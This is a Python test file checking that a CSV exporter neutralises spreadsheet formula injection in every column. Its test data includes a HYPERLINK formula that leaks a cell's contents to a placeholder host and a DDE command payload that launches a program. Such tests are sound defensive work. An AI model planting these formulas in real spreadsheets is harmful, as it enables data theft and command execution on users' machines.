"""The CSV export: every column neutralised, whatever the saga file put in it."""

from __future__ import annotations

import csv
import io
import json

import pytest

from plainte.core.csvexport import COLUMNS, cases_to_csv, neutralise
from plainte.core.sagafile import parse_saga

from ..conftest import saga_doc

STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@pytest.mark.parametrize("start", STARTS)
def test_every_formula_start_is_prefixed(start: str) -> None:
    assert neutralise(start + "1+1") == "'" + start + "1+1"


def test_harmless_cells_are_unchanged() -> None:
    assert [neutralise(v) for v in ("abc", "12", "", None, 15.5)] == ["abc", "12", "", "", "15.5"]


def test_case_and_event_ids_are_neutralised_like_every_column() -> None:
    formula = '=HYPERLINK("http://x.invalid/?leak="&A2,"click")'
    doc = saga_doc(
        events=[
            {
                "id": formula,
                "at": "2026-08-03",
                "channel": "phone",
                "direction": "out",
                "counterpart": "@SUM(1)",
                "reference": "+1",
                "summary": "-2",
                "promises": [{"id": "p", "text": "=1"}],
                "attachments": [{"name": "=evil.pdf", "sha256": "a" * 64, "size": 1}],
            }
        ],
        id="=cmd|' /C calc'!A0",
    )
    cases = parse_saga(json.dumps(doc).encode()).cases
    rows = list(csv.reader(io.StringIO(cases_to_csv(cases).lstrip("\ufeff"))))
    assert tuple(rows[0]) == COLUMNS
    for value in rows[1]:
        assert not value or value[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20", value
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[1][1] == "'" + formula
